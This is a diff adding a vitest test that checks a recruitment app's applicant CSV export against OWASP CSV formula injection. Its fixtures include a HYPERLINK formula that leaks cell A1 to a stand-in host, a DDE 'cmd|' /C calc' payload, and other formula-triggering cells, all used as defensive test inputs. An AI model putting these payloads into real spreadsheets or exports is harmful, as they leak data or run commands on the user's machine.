@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { existsSync } from 'node:fs';
 import { and, eq, sql } from 'drizzle-orm';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { PDFDocument } from 'pdf-lib';
 import { PermissionId, answerFilterGroups, type ApplicantFilter, type FormProperty } from '@rekry/domain';
 import { customerServiceForm } from '../src/db/demo-forms.ts';
@@ -1008,6 +1009,46 @@ describe('export_Applicants', () => {
     });
     expect(bad.status).toBe(400);
     expect(bad.body.error.fields.format).toBe('Välj CSV eller PDF');
+  });
+
+  it('neutralises every cell a spreadsheet would compute (OWASP CSV injection); numbers stay numbers', async () => {
+    const position = await positionWithRights();
+    const hostile = [
+      ['=HYPERLINK("https://ond.example/?"&A1;"Klicka")', '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)'],
+      ['Anna', 'Andersson', '\t=1+1', '\r=1+1'],
+    ];
+    for (const [firstname, lastname, city, phone] of hostile)
+      await buildApplication(t.db, own(), position.id, {
+        firstname,
+        lastname,
+        answers: { form_city: city!, form_mobilePhone: phone! },
+      });
+    await buildApplication(t.db, own(), position.id, {
+      firstname: 'Siffror',
+      answers: { form_city: '-12', form_mobilePhone: '+46701234567' },
+    });
+    const res = await dispatch(t.app, tokens.reader, 'export_Applicants', {
+      containerId: own(),
+      positionId: position.id,
+    });
+    expect(res.status).toBe(200);
+    const text = Buffer.from(res.body.data.data, 'base64')
+      .toString('utf8')
+      .replace(/^\uFEFF/, '');
+    const cells: string[] = parseCsv(text, { delimiter: ';', relax_column_count: true }).flat();
+    const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c));
+    expect(formulaLike).toEqual([]);
+    for (const value of [
+      '=HYPERLINK("https://ond.example/?"&A1;"Klicka") +SUM(1;2)',
+      "-2+3+cmd|' /C calc'!A0",
+    ])
+      expect(cells).toContain(`'${value}`);
+    expect(cells).toContain("'@SUM(A1)");
+    const tabAndReturn = cells.filter((c) => c.includes('=1+1'));
+    expect(tabAndReturn).toHaveLength(2);
+    for (const cell of tabAndReturn) expect(cell).toMatch(/^'/);
+    expect(cells).toContain('-12');
+    expect(cells).toContain('+46701234567');
   });
 });
 
